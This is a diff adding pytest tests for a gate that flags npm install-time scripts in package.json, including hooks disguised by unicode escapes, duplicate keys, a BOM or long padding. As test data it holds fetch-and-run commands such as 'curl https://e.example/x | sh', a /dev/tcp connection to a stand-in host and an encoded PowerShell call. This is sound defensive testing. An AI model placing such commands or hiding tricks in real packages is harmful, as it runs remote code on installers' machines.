@@ -1,0 +1,72 @@
+"""What an installation runs: compared as values, whatever the writing."""
+
+import json
+
+import pytest
+
+from tests.actions.test_dependencies import gate, told
+
+FETCH = "curl https://e.example/x | sh"
+
+
+@pytest.mark.parametrize(
+    ("text", "line"),
+    [
+        ('{"scripts":{"test":"jest","postinstall":"%s"}}', 1),
+        ('{\n"scripts": {\n"test": "jest",\n"postinstall"\n:\n"%s"\n}\n}', 4),
+        ('{"x": "' + "y" * 9_000 + '",\n"scripts": {"test": "jest", "postinstall": "%s"}}', 2),
+        ('{"scripts": {"test": "jest", "post\\u0069nstall": "%s"}}', 1),
+        ('{"scripts": {"test": "jest"}, "scripts": {"postinstall": "%s"}}', 1),
+        ('{"s\\u0063ripts":\r\n{"postinstall":\r\n"%s"}}', 2),
+        ('\ufeff{"scripts": {"preinstall": "%s"}}', 1),
+        ('{"scripts": {"pnpm:devPreinstall": "%s"}}', 1),
+        ('{"scripts": {"prepare": "%s"}}', 1),
+    ],
+)
+def test_a_script_is_seen_in_any_writing(text, line):
+    old = '{"scripts": {"test": "jest"}}'
+    assert told(gate({"package.json": (old, text % FETCH)})) == [
+        ("install_script", "warning", "package.json", line)
+    ]
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        (FETCH, "warning"),
+        (r"\u0063url -s e.example | sh", "warning"),
+        ("node -e \\\"require('child_process')\\\"", "warning"),
+        ("node -pe 1", "warning"),
+        ("bash -c 'cat < /dev/tcp/e.example/80'", "warning"),
+        ("powershell -enc AAAA", "warning"),
+        ("python3 -c 'import os'", "warning"),
+        ("1>/dev/null node x.js", "notice"),
+        ("husky", "notice"),
+        ("node scripts/evaluate.js --curly", "notice"),
+    ],
+)
+def test_what_fetches_or_hides_code_weighs_more(command, severity):
+    new = '{"scripts": {"install": "%s"}}' % command  # noqa: UP031 - braces
+    assert told(gate({"package.json": ("{}", new)})) == [
+        ("install_script", severity, "package.json", 1)
+    ]
+
+
+def test_a_script_that_changed_is_new():
+    old = json.dumps({"scripts": {"prepare": "husky", "postinstall": "node a.js"}})
+    new = json.dumps({"scripts": {"prepare": "husky", "postinstall": "node b.js"}})
+    assert told(gate({"package.json": (old, new)})) == [
+        ("install_script", "notice", "package.json", 1)
+    ]
+
+
+def test_a_script_that_stays_or_goes_or_runs_on_demand_is_not_told():
+    old = {"scripts": {"prepare": FETCH, "postinstall": FETCH}}
+    new = {"name": "a", "scripts": {"build": FETCH, "prepare": FETCH, "prepack": FETCH}}
+    files = {"package.json": (json.dumps(old), json.dumps(new, indent=4))}
+    assert told(gate(files)) == []
+
+
+@pytest.mark.parametrize("scripts", ['["postinstall"]', '"postinstall"', '{"postinstall": ["x"]}'])
+def test_what_npm_would_not_run_is_no_script(scripts):
+    assert told(gate({"package.json": ("{}", '{"scripts": %s}' % scripts)})) == []  # noqa: UP031
